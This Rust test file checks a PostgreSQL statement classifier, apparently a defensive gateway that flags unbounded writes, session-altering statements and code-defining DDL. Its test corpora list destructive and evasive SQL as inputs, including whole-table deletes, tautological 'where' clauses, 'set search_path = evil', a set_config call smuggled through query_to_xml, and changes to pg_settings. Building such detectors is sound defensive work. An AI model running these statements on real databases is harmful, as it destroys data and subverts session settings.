        let placeholder = matches!(*tag, "PlassignStmt" | "SetOperationStmt" | "RawStmt");
        assert!(
            placeholder || command != *tag,
            "{tag} falls to the fallback"
        );
    }
    let (command, classes) = walk::bare_statement("FutureStmt");
    assert_eq!(command, "FutureStmt");
    assert_eq!(classes, SqlClass::ALL.into_iter().collect());
}

/// `no_where` means "no predicate that bounds the rows" (bounds.rs): `(sql,
/// unbounded)`. Bounded writes of ordinary work must stay bounded.
#[rustfmt::skip]
const BOUNDS: &[(&str, bool)] = &[
    // ---- ordinary bounded writes
    ("delete from t where id = 5", false),
    ("delete from t where id = $1", false),
    ("update t set a = 1 where id in (select uid from orders where total > 10)", false),
    ("delete from t where id in (select t2.id from t2)", false),
    ("delete from users where id in (select id from banned)", false),
    ("update a set v = b.v from b where a.x = b.y", false),
    ("update a set v = b.v from b where a.id = b.id", false),
    ("delete from a using b where a.x = b.y and b.z = 1", false),
    ("delete from sessions where created_at < now() - interval '1 day'", false),
    ("delete from t where lower(email) = 'a@b.c'", false),
    ("delete from t where id between 1 and 10", false),
    ("delete from t where id = any($1)", false),
    ("delete from t where id = any(array[1, 2])", false),
    ("delete from t where name like 'tmp%'", false),
    ("delete from t where name is null", false),
    ("delete from t where deleted_at is not null and deleted_at < now()", false),
    ("delete from t where expired", false),
    ("delete from t where not expired", false),
    ("update t set a = 1 where active = true", false),
    ("delete from t where starts_with(name, 'x')", false),
    ("delete from t where (a, b) = (1, 2)", false),
    ("delete from t where a = 1 or b = 2", false),
    ("delete from t where not (a = 1 and b = 2)", false),
    ("delete from t where id <> 5", false),
    ("delete from t where id = (select max(id) from t)", false),
    ("delete from t x where x.id = 5", false),
    ("delete from orders o where not exists (select 1 from customers c where c.id = o.customer_id)", false),
    ("delete from orders where exists (select 1 from customers c where c.id = orders.customer_id)", false),
    ("delete from t where current of c", false),
    ("update t set a = 1 where (id = 5) is true", false),
    ("with d as (delete from t where id = 1 returning *) select * from d", false),
    ("merge into t using s on t.id = s.id when matched then update set v = s.v", false),
    ("merge into t using s on true when matched and t.id = s.id then delete", false),
    ("merge into t using s on t.id = s.id when not matched then insert values (s.id)", false),
    ("insert into t values (1) on conflict (id) do update set v = excluded.v", false),
    ("insert into t select 1, 2 on conflict (id) do update set v = excluded.v", false),
    ("insert into t select * from s where s.id = 5 on conflict (id) do update set v = excluded.v", false),
    ("insert into t select * from s limit 10 on conflict (id) do update set v = excluded.v", false),
    ("insert into t select * from s on conflict (id) do nothing", false),
    ("insert into t select * from s", false),
    ("insert into t select * from s on conflict (id) do update set v = excluded.v where t.v < excluded.v", false),
    ("explain delete from t", false),
    ("delete from t where id in (select id from t where x = 5)", false),
    ("delete from t where exists (select 1 from t t2 where t2.id = t.id and t2.x = 5)", false),
    ("delete from t using t t2 where t.parent_id = t2.id and t2.deleted", false),
    ("merge into t using (select * from t where x = 5) s on t.id = s.id when matched then delete", false),
    // ---- no predicate, or one that does not bound
    ("delete from t", true),
    ("update t set a = 1", true),
    ("delete from t where true", true),
    ("delete from t where 1 = 1", true),
    ("delete from t where 'a' = 'a'", true),
    ("delete from t where id = id", true),
    ("delete from t where t.id = id", true),
    ("delete from t x where x.id = x.id", true),
    ("delete from t where id + 0 = id", true),
    ("delete from t where x or true", true),
    ("delete from t where id = 5 or true", true),
    ("delete from t where not false", true),
    ("delete from t where not not true", true),
    ("delete from t where id is not null or true", true),
    ("delete from t where id is not null", true),
    ("delete from t where not (id is null)", true),
    ("delete from t where coalesce(true)", true),
    ("delete from t where coalesce(id = id, true)", true),
    ("delete from t where (id = id) = true", true),
    ("delete from t where (id = 5 or true) is true", true),
    ("delete from t where (id = 5) is not true", false),
    ("delete from t where true and true", true),
    ("delete from t where $1", true),
    ("delete from t where id in (id)", true),
    ("delete from t where id = any(array[id])", true),
    ("delete from t where id between id and id", true),
    ("delete from t where id = (select id)", true),
    ("delete from t where id in (select id from generate_series(1, 9) g)", true),
    ("delete from t where id in (select id from t)", true),
    ("delete from t where id in (select t.id)", true),
    ("delete from t where id in (select t.id from t)", true),
    ("delete from t x where x.id = any(array(select id from t))", true),
    ("delete from t where exists (select 1)", true),
    ("delete from t where exists (select 1 from o where true)", true),
    ("delete from t where exists (select 1 where t.id = t.id)", true),
    ("delete from t where case when true then true end", true),
    ("delete from t where 5 > 3", true),
    ("delete from t where now() > '2000-01-01'", true),
    ("update a set v = 1 from b where b.x = b.y", true),
    ("delete from t where exists (select 1 from t t2 where t2.id = t.id)", true),
    ("delete from t using t t2 where t.id = t2.id", true),
    ("update t set v = 1 from t as t2 where t.id = t2.id", true),
    ("merge into t using t s on t.id = s.id when matched then delete", true),
    ("merge into t using (select * from t) s on t.id = s.id when matched then delete", true),
    ("truncate t", true),
    ("truncate only t", true),
    ("with d as (delete from t where true returning *) select * from d", true),
    ("explain analyze delete from t where 1 = 1", true),
    ("merge into t using s on true when matched then delete", true),
    ("merge into t using s on t.id = t.id when matched then update set v = 1", true),
    ("merge into t using s on 1 = 1 when matched and true then delete", true),
    ("merge into t using s on t.id = s.id when not matched by source then delete", true),
    ("insert into t select * from s on conflict (id) do update set v = excluded.v", true),
    ("insert into t select * from s where true on conflict (id) do update set v = 0", true),
    ("insert into t select * from s union select * from u where u.id = 1 on conflict (id) do update set v = 0", true),
    ("insert into t select generate_series(1, 1000000) on conflict (id) do update set v = 0", true),
    ("insert into t select * from s on conflict (id) do update set v = 0 where true", true),
];

#[test]
fn no_where_means_no_bounding_predicate() {
    let mut problems = Vec::new();
    for &(sql, unbounded) in BOUNDS {
        match classify(sql) {
            Ok(c) => {
                let got = c.statements.iter().any(|s| s.no_where);
                if got != unbounded {
                    problems.push(format!("{sql:?}: no_where {got}, want {unbounded}"));
                }
            }
            Err(e) => problems.push(format!("{sql:?}: {e}")),
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

/// `changes_session`: statements after which later text may lex or resolve
/// differently, or prepared statements differ (the relay's barrier).
#[rustfmt::skip]
const SESSION: &[(&str, bool)] = &[
    // ---- ordinary work: no barrier
    ("select 1", false),
    ("select now()", false),
    ("select pg_catalog.now()", false),
    ("select count(*) from t group by x", false),
    ("select * from a join b on a.id = b.aid left join c using (id)", false),
    ("select x, row_number() over (partition by a order by b) from t", false),
    ("select sum(x) over w, rank() over w from t window w as (order by y)", false),
    ("with r as (select * from orders) select * from r", false),
    ("select lower(email), upper(name), length(name), coalesce(a, b), greatest(1, 2) from users", false),
    ("select extract(year from now()), date_trunc('day', now()), now() - interval '1 day'", false),
    ("select substring('abc' from 1 for 2), trim(' a '), position('a' in 'b'), overlay('abc' placing 'x' from 2)", false),
    ("select x at time zone 'utc', current_date, current_user, 'a'::text, cast(1 as text) from t", false),
    ("select json_agg(u), string_agg(name, ','), array_agg(x order by y) from users u", false),
    ("select count(*) filter (where x > 1), max(y), avg(z) from t", false),
    ("select * from generate_series(1, 10)", false),
    ("select to_char(now(), 'YYYY'), md5('x'), jsonb_build_object('a', 1)", false),
    ("select nextval('s')", false),
    ("insert into t values (1) returning id", false),
    ("update t set a = 1 where id = 5", false),
    ("delete from t where id = 5", false),
    ("show search_path", false),
    ("begin", false),
    ("savepoint s", false),
    ("release savepoint s", false),
    ("listen ch", false),
    ("notify ch, 'x'", false),
    ("fetch 10 from c", false),
    ("declare c cursor for select * from t", false),
    ("copy t to stdout", false),
    ("explain select * from t", false),
    // ---- settings and their function and table forms
    ("set search_path = evil, public", true),
    ("set standard_conforming_strings = off", true),
    ("set statement_timeout = '5s'", true),
    ("set local work_mem = '64MB'", true),
    ("set role admin", true),
    ("set session authorization 'postgres'", true),
    ("reset all", true),
    ("reset client_encoding", true),
    ("select set_config('standard_conforming_strings', 'off', false)", true),
    ("select pg_catalog.set_config('search_path', '', false)", true),
    ("select * from t where x = (select set_config('client_encoding', 'SJIS', true))", true),
    ("update pg_settings set setting = 'off' where name = 'standard_conforming_strings'", true),
    ("update pg_catalog.pg_settings set setting = 'SJIS' where name = 'client_encoding'", true),
    ("with s as (update pg_settings set setting = 'off' where name = 'x' returning 1) select 1", true),
    ("alter system set standard_conforming_strings = off", true),
    ("select pg_reload_conf()", true),
    ("alter role current_user set search_path = evil", true),
    ("select query_to_xml('select set_config(''search_path'', '''', false)', true, true, '')", true),
    // ---- prepared statements, code, transactions' ends
    ("discard all", true),
    ("discard plans", true),
    ("prepare p as select 1", true),
    ("deallocate p", true),
    ("deallocate all", true),
    ("execute p", true),
    ("do $$ begin perform 1; end $$", true),
    ("call p()", true),
    ("load 'auto_explain'", true),
    ("commit", true),
    ("end", true),
    ("rollback", true),
    ("abort", true),
    ("rollback to savepoint s", true),
    ("prepare transaction 'x'", true),
    // ---- functions not known to be built-in
    ("select my_func()", true),
    ("select public.lower('x')", true),
    ("select \"LOWER\"('x')", true),
    ("select * from t where id = app.lookup(1)", true),
    ("explain analyze select f()", true),
    ("select dblink_exec('x', 'y')", true),
    // ---- DDL and privileges change what later names resolve to
    ("create temp table orders (id int)", true),
    ("create function lower(x int) returns int language sql as 'select 1'", true),
    ("grant usage on schema s to agent", true),
    ("revoke usage on schema s from agent", true),
];

#[test]
fn changes_session_marks_what_can_change_later_statements() {
    let mut problems = Vec::new();
    for &(sql, want) in SESSION {
        match classify(sql) {
            Ok(c) => {
                if c.changes_session() != want {
                    problems.push(format!("{sql:?}: changes_session {}, want {want}", !want));
                }
            }
            Err(e) => problems.push(format!("{sql:?}: {e}")),
        }
    }
    // One statement of a multi-statement string is enough.
    let c = classify("select 1; set search_path = x; select 2").unwrap();
    assert!(c.changes_session());
    assert_eq!(
        c.statements
            .iter()
            .map(|s| s.changes_session)
            .collect::<Vec<_>>(),
        [false, true, false]
    );
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

#[test]
fn builtin_function_names_are_known() {
    for name in [
        "now",
        "lower",
        "count",
        "set_config",
        "pg_collation_for",
        "btrim",
        "timezone",
        "substring",
    ] {
        assert!(functions::is_builtin(&[name]), "{name}");
        assert!(functions::is_builtin(&["pg_catalog", name]), "{name}");
    }
    assert!(!functions::is_builtin(&["public", "lower"]));
    assert!(!functions::is_builtin(&["LOWER"]));
    assert!(!functions::is_builtin(&["my_func"]));
}

#[test]
fn describe_for_the_console() {
    let d = describe(
        "update customers set name = 'x' where id = (select max(id) from orders); select now()",
    );
    let s = &d["statements"];
    assert_eq!(s[0]["command"], "UPDATE");
    assert_eq!(s[0]["writes"], serde_json::json!(["customers"]));
    assert_eq!(s[0]["reads"], serde_json::json!(["orders"]));
    assert!(s[0]["classes"]
        .as_array()
        .unwrap()
        .contains(&"write".into()));
    assert_eq!(s[0]["unbounded_write"], false);
    assert_eq!(s[1]["functions"], serde_json::json!(["now"]));
    assert!(describe("update t set").get("error").is_some());
}

/// Constants a shape-cache test puts in place of a text's own, by token
/// kind: values the classifier has reasons to read (settings, EXPLAIN's
/// options, encodings) and ordinary ones.
fn replacement(kind: pg_query::protobuf::Token, n: usize) -> &'static str {
    use pg_query::protobuf::Token;
    let pick = |options: &[&'static str]| options[n % options.len()];
    match kind {
        Token::Sconst => pick(&[
            "'on'",
            "'off'",
            "'SJIS'",
            "'utf8'",
            "''",
            "'analyze'",
            "'role'",
            "'it''s'",
            "$$off$$",
            "E'\\\\'",
            "'pg_authid'",
        ]),
        Token::Iconst => pick(&["0", "1", "7", "2147483647"]),
        Token::Fconst => pick(&["0.5", "1e9", "99999999999"]),
        Token::Bconst => pick(&["B'1'", "B''"]),
        Token::Xconst => pick(&["X'0F'", "X''"]),
        _ => pick(&["U&'a'", "U&'\\0041'"]),
    }
}

/// `sql` with its `i`-th constant replaced by `replacement(kind, n + i)`.
fn with_other_constants(sql: &str, n: usize) -> Option<String> {
    use pg_query::protobuf::Token;
    let mut out = String::new();
    let mut at = 0;
    let mut replaced = 0;
    for t in pg_query::scan_tokens(sql).ok()? {
        let kind = match Token::try_from(t.token) {
            Ok(
                k @ (Token::Sconst
                | Token::Usconst
                | Token::Iconst
                | Token::Fconst
                | Token::Bconst
                | Token::Xconst),
            ) => k,
            _ => continue,
        };
        let (start, end) = (t.start as usize, t.end as usize);
        out.push_str(&sql[at..start]);
        out.push_str(replacement(kind, n + replaced));
        replaced += 1;
        at = end;
    }
    out.push_str(&sql[at..]);
    (replaced > 0).then_some(out)
}

/// Statements whose classification reads a constant or the text, or whose
/// constants the grammar consumes outside `A_Const`.
const CONSTANT_SENSITIVE: &[&str] = &[
    "set standard_conforming_strings = 'on'",
    "set client_encoding = 'UTF8'",
    "set client_encoding to 'utf8'; select 1",
    "select 1; set standard_conforming_strings = 'on'; select 2",
    "alter system set standard_conforming_strings = 'on'",
    "alter role r set client_encoding = 'utf8'",
    "prepare p as select 1",
    "prepare p as select * from t where a = 'x'",
    "explain (analyze 'off') delete from t",
    "explain (analyze 0) delete from t",
    "explain (analyze -1) delete from t",
    "copy t from '/tmp/x'",
    "copy t to '/tmp/x'",
    "notify ch, 'payload'",
    "select set_config('search_path', 'x', false)",
    "select * from t where x = -1",
    "select * from t where x = - 1.5 and y = -'2'",
    "select - - 5, -(5), 1 -5, -5::int, - /* c */ 5",
    "set statement_timeout = -1",
    "set standard_conforming_strings = -1",
    "alter sequence s increment -1",
    "create sequence s minvalue -10",
    "select * from t limit -1",
    "select 'pg_authid'::regclass",
    "select cast(x as float(10)) from t",
    "create table t (c varchar(10))",
    "alter sequence s restart 5",
    "select interval '1' day",
    "do $$ begin perform 1; end $$",
    "select * from t limit 5 offset 2",
    "select * from t order by 1",
    "comment on table t is 'x'",
    "create function f() returns int language sql as 'select 1'",
    "select U&'d\\0061t\\+000061' uescape '\\'",
    "select U&'a'",
    "select U&'\\D800'",
    "select 'a' 'b'",
    "select 'a'\n'b', 'c'\n-- d\n'e'",
    "set names 'utf8'",
    "create function f() returns int language sql set standard_conforming_strings = 'off' begin atomic select 1; end",
    "alter function f() set client_encoding = 'sjis'",
    "alter database d set standard_conforming_strings = 'off'",
    "explain (analyze +1) delete from t",
    "select * from t limit +5",
    "select * from t limit -5",
    "select * from t fetch first -1 rows only",
    "fetch 5 from c",
    "move -1 in c",
    "select current_timestamp(3)",
    "select '{}'::int[5]",
    "alter index i alter column 1 set statistics 100",
    "create table p1 partition of p for values with (modulus 4, remainder 0)",
    "grant select on large object 5 to r",
    "create trigger tr after insert on t execute function f(1, 'x')",
    "prepare transaction 'g'",
    "select * from json_table('{}', '$' columns (a int path '$.a'))",
    "set transaction snapshot 'x'",
    "set session authorization 'x'",
    "set role 'x'",
    "set schema 'x'",
    "select interval(3) '1'",
    "select float8 '1', 1_000, 0x1F, 0o17, 0b101, 2147483648, .5e-3",
];

/// Statements whose column lineage (for masking) could depend on a constant
/// or the text: function bodies, casts and paths, and masked columns.
const LINEAGE_SENSITIVE: &[&str] = &[
    "select national_id from customers where id = 5",
    "select c.name, o.total * 2 from customers c join orders o on o.cid = c.id where o.id > 10",
    "select row_to_json(c) from customers c where c.id = 3 limit 1",
    "select national_id::text || 'x' as n from customers",
    "select (select national_id from customers where id = 1) as x",
    "select data->>'national_id' from docs where id = 7",
    "select jsonb_build_object('id', national_id) from customers",
    "select * from json_to_record('{\"a\":1}') as r(a int)",
    "select pg_notify('ch', national_id) from customers",
    "copy (select national_id from customers where id = 1) to stdout",
    "insert into copies (n) select national_id from customers where id = 2",
    "create function f() returns text language sql as 'select national_id from customers'",
    "create function f() returns text language plpgsql as $$ begin return (select national_id from customers limit 1); end $$",
    "do $$ begin perform national_id from customers where id = 1; end $$",
    "select national_id from customers order by 1 limit 3",
    "with x as (select national_id, 1 as k from customers) select * from x where k = 1",
    "select set_config('a', national_id, false) from customers",
    "prepare p as select national_id from customers where id = 1",
];

/// The texts of every shape the differential tests try: each statement of
/// the corpora and up to six rewrites of its constants.
fn shape_groups() -> Vec<Vec<String>> {
    CASES
        .iter()
        .map(|c| c.0)
        .chain(BOUNDS.iter().map(|b| b.0))
        .chain(SESSION.iter().map(|s| s.0))
        .chain(CONSTANT_SENSITIVE.iter().copied())
        .chain(LINEAGE_SENSITIVE.iter().copied())
        .map(|sql| {
            let mut texts: Vec<String> = std::iter::once(sql.to_owned())
                .chain((0..6).filter_map(|n| with_other_constants(sql, n)))
                .collect();
            texts.sort();
            texts.dedup();
            texts
        })
        .collect()
}

/// Lookups through a cache, each text's answer shared (an `Arc`).
type Lookup<T, E> = Box<dyn Fn(&str) -> Result<Arc<T>, E>>;

/// The shape caches' promise, differentially: for every statement of the
/// corpora, and each of several rewrites of its constants, what a cache
/// answers after seeing one text of the shape (`first`, through a lookup
/// `after_first` makes) is what `direct` gives for that very text,
/// whichever text came first. Returns how many answers were compared, and
/// how many of them were the first text's (shared by shape).
fn shape_differential<T, E>(
    after_first: impl Fn() -> Lookup<T, E>,
    direct: impl Fn(&str) -> Result<T, E>,
) -> (usize, usize)
where
    T: Clone + PartialEq + std::fmt::Debug,
    E: PartialEq + std::fmt::Debug,
{
    let (mut compared, mut shared) = (0, 0);
    for texts in shape_groups() {
        for first in &texts {
            let lookup = after_first();
            let first_answer = lookup(first);
            for other in &texts {
                let answer = lookup(other);
                shared += usize::from(
                    other != first
                        && matches!((&first_answer, &answer), (Ok(a), Ok(b)) if Arc::ptr_eq(a, b)),
                );
                assert_eq!(
                    answer.map(|a| (*a).clone()),
                    direct(other),
                    "{other:?} after {first:?} (shape {:?})",
                    shape::Shape::of(other).map(|s| s.key)
                );
                compared += 1;
            }
        }
    }
    // The test must exercise sharing, not only misses.
    eprintln!("{compared} compared, {shared} shared");
    assert!(
        compared > 2000 && shared > 1000,
        "{compared} compared, {shared} shared"
    );
    (compared, shared)
}

#[test]
fn a_shape_hit_is_the_classification_of_the_text_itself() {
    shape_differential(
        || {
            let cache = ClassifierCache::new(64);
            Box::new(move |sql| cache.classify(sql))
        },
        classify,
    );
}

/// The same promise for the column lineage masking relies on (its cache is
/// the process's, so each text is compared with a fresh analysis of it).
#[test]
fn a_shape_hit_is_the_lineage_of_the_text_itself() {
    shape_differential(
        || Box::new(lineage::analyse),
        |sql| lineage::analyse_uncached(sql).map(|(l, _)| l),
    );
}

#[test]
fn texts_differing_only_in_constants_share_a_classification() {
    let cache = ClassifierCache::new(64);
    let a = cache
        .classify("SELECT abalance FROM pgbench_accounts WHERE aid = 48213;")
        .unwrap();
    let len = cache.len();
    let b = cache
        .classify("SELECT abalance FROM pgbench_accounts WHERE aid = 7;")
        .unwrap();
    assert!(Arc::ptr_eq(&a, &b), "served from the shape");
    assert_eq!(cache.len(), len, "a shape hit adds nothing");
    // Other names, comments or spacing are another shape.
    for other in [
        "SELECT abalance FROM pgbench_branches WHERE aid = 7;",
        "SELECT abalance FROM pgbench_accounts WHERE aid = 7; ",
        "SELECT abalance FROM pgbench_accounts /* x */ WHERE aid = 7;",
        "SELECT abalance FROM pgbench_accounts WHERE aid = '7';",
    ] {
        assert!(!Arc::ptr_eq(&a, &cache.classify(other).unwrap()), "{other}");
    }
    // A negative number is one constant (at its `-`).
    let n = cache.classify("select * from t where x = -1").unwrap();
    let m = cache.classify("select * from t where x = -2").unwrap();
    assert!(Arc::ptr_eq(&n, &m));
    // What reads a value is classified per text.
    let on = cache
        .classify("set standard_conforming_strings = 'on'")
        .unwrap();
    let off = cache
        .classify("set standard_conforming_strings = 'off'")
        .unwrap();
    assert!(!on.classes().contains(&SqlClass::Admin));
    assert!(off.classes().contains(&SqlClass::Admin));
}

#[test]
fn shapes_mark_constants_and_keep_everything_else() {
    let s =
        shape::Shape::of("select $1, 'a''b', 12, 1.5, x'1f', $q$ ' $q$ -- 'c'\nfrom t").unwrap();
    assert_eq!(s.key, "select $1, \0s, \0i, \0f, \0x, \0s -- 'c'\nfrom t");
    let starts: Vec<i32> = s.constants_at.iter().map(|c| c.0).collect();
    assert_eq!(starts, vec![11, 19, 23, 28, 35]);
    let s = shape::Shape::of("select -1, - 2, -/**/3, +4").unwrap();
    assert_eq!(
        s.constants_at,
        vec![(8, Some(7)), (13, Some(11)), (21, None), (25, None)]
    );
    assert!(shape::Shape::of("select 'unterminated").is_none());
    assert!(shape::Shape::of("select 1\0").is_none());
    assert!(shape::Shape::of("select U&'a'").is_none());
    // Each of these is one constant, whole, as PostgreSQL's scanner has it.
    for (sql, key) in [
        ("select 'a'\n'b'", "select \0s"),
        ("select 'a'\n-- c\n'b'", "select \0s"),
        ("select $a$ x $a$", "select \0s"),
        ("select E'\\''", "select \0s"),
        ("select n'x'", "select n\0s"),
        ("select b'1', x'1f'", "select \0b, \0x"),
        (
            "select 1_000, 0x1F, 0o17, 0b101, .5e-3",
            "select \0i, \0i, \0i, \0i, \0f",
        ),
        ("select 2147483647, 2147483648", "select \0i, \0f"),
    ] {
        assert_eq!(
            shape::Shape::of(sql).map(|s| s.key),
            Some(key.into()),
            "{sql}"
        );
    }
    // Whitespace alone has no tokens (and no shape); the cache still answers.
    for blank in ["", " ", "\n\t "] {
        assert!(shape::Shape::of(blank).is_none());
        let c = ClassifierCache::new(4).classify(blank).unwrap();
        assert!(c.statements.is_empty());
    }
}

#[test]
fn ddl_that_attaches_a_routine_names_it_as_called() {
    for (sql, routines) in [
        (
            "create trigger x after insert on orders for each row execute function s.t()",
            &["s.t"][..],
        ),
        ("create event trigger e on ddl_command_start execute function e()", &["e"]),
        (
            "create operator ### (function = s.f, leftarg = int, rightarg = int, commutator = ###)",
            &["s.f"],
        ),
        (
            "create aggregate a(int) (sfunc = g, stype = int, finalfunc = h)",
            &["g", "h"],
        ),
        ("create cast (int as t) with function s.f(int)", &["s.f"]),
        (
            "create operator class c for type int using btree as operator 1 <, function 1 cmp(int, int)",
            &["cmp"],
        ),
        ("alter operator ### (int, int) set (restrict = s.r)", &["s.r"]),
        ("create conversion cv for 'UTF8' to 'LATIN1' from conv", &["conv"]),
        (
            "create transform for int language plpgsql \
             (from sql with function a(internal), to sql with function b(internal))",
            &["a", "b"],
        ),
        ("create type bt (input = in_f, output = out_f)", &["in_f", "out_f"]),
        ("create type r as range (subtype = int, canonical = c)", &["c"]),
    ] {
        let st = &classify(sql).unwrap().statements[0];
        for r in routines {
            assert!(st.functions.contains(*r), "{sql}: {r} not named: {st:?}");
        }
        // Type names and operator names are not routines.
        assert!(
            !st.functions.iter().any(|f| f.contains("int4") || f.contains('#')),
            "{sql}: {:?}",
            st.functions
        );
    }
}

#[test]
fn statements_that_may_define_code_are_told_from_other_ddl() {
    for (sql, defines) in [
        ("create view v as select 1", true),
        (
            "create or replace function f() returns int language sql as 'select 1'",
            true,
        ),
        ("alter table v rename to w", true),
        ("alter function f() immutable", true),
        ("create materialized view m as select 1", true),
        ("create type r as range (subtype = int)", true),
        ("drop view v", true),
        ("drop function f()", true),
        ("do $$ begin null; end $$", true),
        ("create extension pgcrypto", true),
        ("create table t (a int)", false),
        ("alter table t add column b int default 0", false),
        ("alter table t add constraint c check (a > 0)", false),
        ("create type mood as enum ('a')", false),
        ("create index on t (a)", false),
        ("drop table t", false),
        ("drop table t cascade", true),
        ("alter table t drop column c cascade", true),
        ("alter table t drop column c", false),
        ("drop owned by r", true),
        ("alter function f() owner to r", true),
        ("alter table t owner to r", false),
        ("alter table t rename constraint c to d", false),
        ("alter table t rename column a to b", true),
        ("insert into t values (1)", false),
        // Writes of the parent write the child, and run its triggers.
        ("alter table t inherit p", true),
        ("alter table p attach partition t for values in (1)", true),
        ("drop type mood", false),
        ("drop type mood cascade", true),
    ] {
        let st = &classify(sql).unwrap().statements[0];
        assert_eq!(st.defines_code, defines, "{sql}");
    }
}

#[test]
fn a_replaced_routine_is_judged_on_its_new_body() {
    for sql in [
        "create or replace function f() returns void language sql as 'delete from orders'",
        "create or replace function f() returns void language plpgsql as \
         $$ begin delete from orders; end $$",
        "create or replace function t() returns trigger language plpgsql as \
         $$ begin delete from orders; return null; end $$",
        "create or replace procedure p() language sql begin atomic delete from orders; end",
    ] {
        let st = &classify(sql).unwrap().statements[0];
        assert!(st.writes.contains("orders"), "{sql}: {st:?}");
        assert!(
            st.no_where && st.classes.contains(&SqlClass::Write),
            "{sql}: {st:?}"
        );
    }
    // A new routine is attached nowhere yet: its body runs when called.
    let st = &classify("create function f() returns void language sql as 'delete from orders'")
        .unwrap()
        .statements[0];
    assert!(!st.writes.contains("orders"), "{st:?}");
    // Code the gateway cannot read, replaced, may do anything.
    let st = &classify(
        "create or replace function f() returns void language plpgsql as \
         $$ begin execute 'delete from ' || 'orders'; end $$",
    )
    .unwrap()
    .statements[0];
    assert!(st.no_where, "{st:?}");
}
